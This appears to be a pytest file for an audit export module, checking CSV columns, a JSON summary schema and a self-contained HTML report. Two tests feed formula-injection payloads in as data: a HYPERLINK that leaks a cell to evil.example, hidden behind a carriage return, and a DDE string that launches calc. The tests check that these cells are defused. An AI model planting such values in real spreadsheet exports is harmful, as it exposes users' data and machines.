"""``audit.exports``: CSV columns and rows, the JSON summary against its schema, the HTML page."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from typing import TextIO

import jsonschema

from audit.exports import (
    FINDING_COLUMNS,
    REQUEST_COLUMNS,
    report_html,
    summary_json,
    write_findings_csv,
    write_requests_csv,
)
from audit.reports import Scope, build_figures
from audit.schema import SUMMARY_SCHEMA
from tests.audit.conftest import PERIOD, AuditRows, add_request

#: The documented columns (docs/reports.md): a change here is a change of the export's contract.
DOCUMENTED_REQUEST_COLUMNS = [
    "id", "created", "finished", "tenant", "member", "upstream", "model", "upstream_model", "client_protocol",
    "client_user_agent", "path", "outcome", "status", "attempts", "ttft_ms", "total_ms", "prompt_tokens",
    "completion_tokens", "wasted_completion_tokens", "wasted_ms", "cache_read_tokens", "cache_write_tokens",
    "reasoning_tokens", "usage_estimated", "cost_usd", "delivered_usd", "wasted_usd", "unpriced", "findings", "error",
]
DOCUMENTED_FINDING_COLUMNS = [
    "id", "request_id", "attempt", "created", "tenant", "upstream", "model", "kind", "severity", "action",
    "tool_name", "choice", "slot", "frame", "byte_offset", "detail",
]


def _scope_a(rows: AuditRows) -> Scope:
    return Scope(*PERIOD, tenant_ids=(rows.upstream_a.tenant_id,))


def _csv(write: Callable[[Scope, TextIO], int], scope: Scope) -> tuple[list[str], list[dict[str, str]]]:
    """The header and the rows ``write`` produces for ``scope``."""
    out = io.StringIO()
    write(scope, out)
    out.seek(0)
    reader = csv.DictReader(out)
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def test_it_writes_one_csv_row_per_request_with_the_documented_columns(audit_rows: AuditRows) -> None:
    """Header = the documented columns; seven rows, oldest first; r2's values as stored."""
    header, rows = _csv(write_requests_csv, _scope_a(audit_rows))
    assert list(REQUEST_COLUMNS) == DOCUMENTED_REQUEST_COLUMNS == header
    assert len(rows) == 7
    assert [row["created"] for row in rows] == sorted(row["created"] for row in rows)
    r2 = next(row for row in rows if row["id"] == str(audit_rows.requests["r2"].pk))
    assert r2 == {**r2, "tenant": "tenant-a", "upstream": "tenant-a-upstream", "model": "deepseek-chat",
                  "outcome": "recovered-by-retry", "attempts": "2", "wasted_completion_tokens": "50",
                  "wasted_ms": "1500.0", "findings": "1", "created": "2026-01-01T11:00:00Z", "ttft_ms": ""}


def test_it_writes_one_csv_row_per_finding_with_the_documented_columns(audit_rows: AuditRows) -> None:
    """Header = the documented columns; nine findings; attempt numbers and tools carried over."""
    header, rows = _csv(write_findings_csv, _scope_a(audit_rows))
    assert list(FINDING_COLUMNS) == DOCUMENTED_FINDING_COLUMNS == header
    assert len(rows) == 9
    r4 = [row for row in rows if row["request_id"] == str(audit_rows.requests["r4"].pk)]
    assert [(row["attempt"], row["kind"], row["tool_name"]) for row in r4] == [
        ("1", "schema-violation", "edit_file"), ("2", "schema-violation", "edit_file"),
        ("3", "mid-stream-error-chunk", "")]  # 1-based, as the timeline numbers them
    assert "fragment" not in rows[0]


def test_it_defuses_spreadsheet_formulas_in_csv_cells(audit_rows: AuditRows) -> None:
    """A client-controlled cell starting with = gets a leading apostrophe."""
    tenant = audit_rows.upstream_a.tenant
    add_request(tenant, audit_rows.upstream_a, "evil", at=PERIOD[0], model="m", agent='=HYPERLINK("http://x")')
    _, rows = _csv(write_requests_csv, _scope_a(audit_rows))
    assert "'=HYPERLINK(\"http://x\")" in [row["client_user_agent"] for row in rows]


def test_the_reviews_carriage_return_formula_starts_no_cell_and_no_line(audit_rows: AuditRows) -> None:
    """The review's model name ``x\\r=HYPERLINK(...)``: read back with the csv module no cell starts a
    formula, and no physical line of the file does either (a reader that splits on a bare CR)."""
    tenant = audit_rows.upstream_a.tenant
    attack = 'x\r=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    add_request(tenant, audit_rows.upstream_a, "evil", at=PERIOD[0], model=attack, agent="+cmd|' /C calc'!A0")
    out = io.StringIO()
    write_requests_csv(_scope_a(audit_rows), out)
    text = out.getvalue()
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'x\r'=HYPERLINK" in "".join(cells)  # the text itself is kept, defused
    lines = re.split(r"\r\n|\r|\n", text)
    assert not [line for line in lines if line.lstrip('"').startswith(("=", "+", "-", "@"))]


def test_it_writes_a_json_summary_that_follows_its_schema(audit_rows: AuditRows) -> None:
    """The summary validates against SUMMARY_SCHEMA and reads back as the figures."""
    figures = build_figures(_scope_a(audit_rows))
    text = summary_json(figures)
    jsonschema.validate(json.loads(text), SUMMARY_SCHEMA)
    assert json.loads(text) == figures


def test_it_rejects_summaries_with_unknown_or_missing_fields(audit_rows: AuditRows) -> None:
    """The schema is closed: an extra or a missing field fails validation."""
    figures = build_figures(_scope_a(audit_rows))
    for broken in ({**figures, "surprise": 1}, {k: v for k, v in figures.items() if k != "totals"}):
        try:
            jsonschema.validate(broken, SUMMARY_SCHEMA)
        except jsonschema.ValidationError:
            continue
        raise AssertionError("the schema accepted a summary it should refuse")


def test_it_renders_a_self_contained_html_page_with_its_charts(audit_rows: AuditRows) -> None:
    """Inline SVG charts and tables; no scripts, stylesheets, images or fonts fetched from anywhere."""
    html = report_html(build_figures(_scope_a(audit_rows)), title="Report <A>")
    assert html.count("<svg") == 11
    assert "<polyline" in html and "<rect" in html
    assert "Report &lt;A&gt;" in html and "<table" in html and "read_file" in html
    assert not re.search(r"<script|<link|<img|@import|url\(|src=", html)
    assert set(re.findall(r"https?://[^\"' )]+", html)) == {"http://www.w3.org/2000/svg"}
